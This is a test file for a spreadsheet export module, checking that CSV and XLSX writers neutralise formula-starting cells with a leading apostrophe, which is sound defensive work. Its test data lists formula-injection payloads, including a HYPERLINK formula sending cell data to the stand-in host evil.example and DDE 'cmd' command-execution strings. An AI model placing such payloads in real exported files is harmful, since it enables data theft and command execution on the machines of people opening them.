import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import ExcelJS from 'exceljs';
import { tabularResponse, toCsv, toXlsx } from '../../src/lib/server/http/spreadsheet';

const dangerous = [
	'=HYPERLINK("http://evil.example/?d="&B2,"Öppna")',
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	'\t=1+1',
	'\r=1+1',
	'=1+1\nsecond line',
	'＝1+1'
];

describe('the shared spreadsheet writer', () => {
	it('neutralises every cell that would start a formula in CSV, and keeps the rest as written', () => {
		const csv = toCsv(
			['title', 'points'],
			[...dangerous.map((d) => [d, 3]), ['Mål och vision, "tydliga"', -4], ['Vanlig text', null]]
		);
		expect(csv.startsWith('\uFEFF')).toBe(true);
		const parsed = Papa.parse<string[]>(csv.slice(1).trimEnd(), { newline: '\r\n' }).data;
		expect(parsed[0]).toEqual(['title', 'points']);
		expect(parsed.slice(1, 1 + dangerous.length).map((r) => r[0])).toEqual(
			dangerous.map((d) => `'${d}`)
		);
		expect(parsed.at(-2)).toEqual(['Mål och vision, "tydliga"', '-4']);
		expect(parsed.at(-1)).toEqual(['Vanlig text', '']);
	});

	it('neutralises the same cells in XLSX', async () => {
		const bytes = await toXlsx(
			'Resultat',
			['=title'],
			[...dangerous.map((d) => [d]), [-4], ['ok']]
		);
		const workbook = new ExcelJS.Workbook();
		await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
		const sheet = workbook.worksheets[0];
		const values = sheet.getColumn(1).values.slice(1);
		// XML reading turns a carriage return into a line feed; the apostrophe comes first either way.
		const unCr = (v: unknown) => (typeof v === 'string' ? v.replace(/\r/g, '\n') : v);
		expect(values.map(unCr)).toEqual(
			["'=title", ...dangerous.map((d) => `'${d}`), -4, 'ok'].map(unCr)
		);
		sheet.eachRow((row) =>
			row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula))
		);
	});

	it('is what a download response carries', async () => {
		const response = await tabularResponse('csv', 'plan', ['action'], [['@SUM(A1)']]);
		expect(await response.text()).toContain(`"'@SUM(A1)"`);
	});
});
